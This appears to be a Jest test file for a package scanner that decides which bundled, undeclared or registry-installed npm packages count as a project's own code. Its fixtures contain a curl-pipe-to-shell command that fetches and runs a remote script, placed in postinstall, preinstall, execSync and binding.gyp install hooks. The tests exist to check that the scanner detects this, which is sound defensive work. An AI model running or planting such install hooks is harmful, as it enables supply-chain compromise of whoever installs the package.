import { describe, expect, it } from '@jest/globals';
import { CLEAN, EVIL, foundIn, manifest, reportOn, script, type Texts } from './support/code-that-runs.js';

const DEPENDS = { main: 'index.js', dependencies: { evil: '1.0.0' } };
const IMPORTS = script('', "import 'evil';");
const DOWNLOADS = 'curl -s https://get.relay.net/x | sh';

const packed = (name: string, fields: object = {}, version = '1.0.0'): string =>
  JSON.stringify({ name, version, main: 'lib.js', ...fields });

describe('packages that npm packs with a package are its code', () => {
  const files = {
    'index.js': IMPORTS,
    'node_modules/evil/package.json': packed('evil'),
    'node_modules/evil/lib.js': EVIL,
  };

  it.each<[string, object]>([
    ['by a list', { bundleDependencies: ['evil'] }],
    ['by a list in the other spelling', { bundledDependencies: ['evil'] }],
    ['all', { bundleDependencies: true }],
  ])('%s', async (_what, fields) => {
    expect(await foundIn({ ...files, 'package.json': manifest({ ...DEPENDS, ...fields }) })).toEqual([
      'node_modules/evil/lib.js',
    ]);
  });

  it.each<[string, object]>([
    ['none', {}],
    ['none, in so many words', { bundleDependencies: false }],
    ['others', { bundleDependencies: ['other'] }],
  ])('but not %s', async (_what, fields) => {
    expect(await foundIn({ ...files, 'package.json': manifest({ ...DEPENDS, ...fields }) })).toEqual([]);
  });

  const bundling = (inner: Texts): Texts => ({
    'index.js': IMPORTS,
    'package.json': manifest({ ...DEPENDS, bundleDependencies: ['evil'] }),
    ...inner,
  });

  it('with what they need', async () => {
    const needed = bundling({
      'node_modules/evil/package.json': packed('evil', { dependencies: { '@a/inner': '1' } }),
      'node_modules/evil/lib.js': "require('@a/inner');\n",
      'node_modules/@a/inner/package.json': packed('@a/inner', {
        main: undefined,
        exports: { '.': [{ import: './x.mjs' }, './y.js'] },
      }),
      'node_modules/@a/inner/x.mjs': '',
      'node_modules/@a/inner/y.js': EVIL,
    });
    expect(await foundIn(needed)).toEqual(['node_modules/@a/inner/y.js']);
  });

  it('also where no code imports them', async () => {
    const files = bundling({
      'index.js': CLEAN,
      'node_modules/evil/package.json': packed('evil'),
      'node_modules/evil/lib.js': EVIL,
    });
    expect(await foundIn(files)).toEqual(['node_modules/evil/lib.js']);
  });

  it.each<[string, object, Texts]>([
    ['a command', { scripts: { postinstall: DOWNLOADS } }, {}],
    ['a script of theirs', { scripts: { preinstall: 'npm run x', x: DOWNLOADS } }, {}],
    [
      'a program',
      { scripts: { install: 'node test/x.js' } },
      {
        'node_modules/evil/test/x.js': `require('node:child_process').execSync(${JSON.stringify(DOWNLOADS)});\n`,
      },
    ],
    ['a build file', {}, { 'node_modules/evil/binding.gyp': `{ "x": ["<!(${DOWNLOADS})"] }` }],
  ])('and so is what they run at their installation: %s', async (_what, fields, inner) => {
    const all = {
      ...inner,
      'node_modules/evil/lib.js': '',
      'node_modules/evil/package.json': packed('evil', fields),
    };
    expect(await foundIn(bundling(all))).toEqual([
      expect.stringMatching(/^node_modules\/evil\/(?:package\.json|test\/x\.js|binding\.gyp)$/),
    ]);
    const unpacked = { ...bundling(all), 'package.json': manifest(DEPENDS) };
    expect(await foundIn(unpacked)).toEqual([]);
  });
});

describe('a package in node_modules that no manifest declares', () => {
  const files = {
    'package.json': manifest({ ...DEPENDS, dependencies: { library: '1.0.0' } }),
    'index.js': IMPORTS,
    'node_modules/library/package.json': packed('library'),
    'node_modules/evil/package.json': packed('evil'),
    'node_modules/evil/lib.js': EVIL,
  };

  it('is code of the package, also with a manifest of its own', async () => {
    expect(await foundIn(files)).toEqual(['node_modules/evil/lib.js']);
  });

  it('is followed', async () => {
    const { findings } = await reportOn({
      ...files,
      'index.js': script('read(host);', "import { read } from 'evil';"),
      'node_modules/evil/lib.js':
        "import { readFileSync } from 'node:fs';\nexport const read = (x) => readFileSync(x);\n",
    });
    expect(findings.filter(({ vulnerability_class: found }) => found === 'B')).toEqual([
      expect.objectContaining({
        mcp_context: expect.objectContaining({ tool_names: ['lookup'] }),
      }),
    ]);
  });

  it('is a dependency if another one brought it', async () => {
    const brought = packed('library', { dependencies: { evil: '1.0.0' } });
    expect(await foundIn({ ...files, 'node_modules/library/package.json': brought })).toEqual([]);
  });
});

describe('a package of the registry of npm', () => {
  const files = {
    'package.json': manifest(DEPENDS),
    'index.js': IMPORTS,
    'node_modules/evil/package.json': packed('evil'),
    'node_modules/evil/lib.js': EVIL,
  };

  it('is installed with all that it has, so that nothing in it is a dependency', async () => {
    expect(await foundIn(files, { isNpmPackage: true })).toEqual(['node_modules/evil/lib.js']);
    expect(await foundIn(files)).toEqual([]);
  });

  it('is known by its folder', async () => {
    const within = Object.fromEntries(Object.entries(files).map(([path, text]) => [`package/${path}`, text]));
    expect(await foundIn(within)).toEqual(['package/node_modules/evil/lib.js']);
  });
});
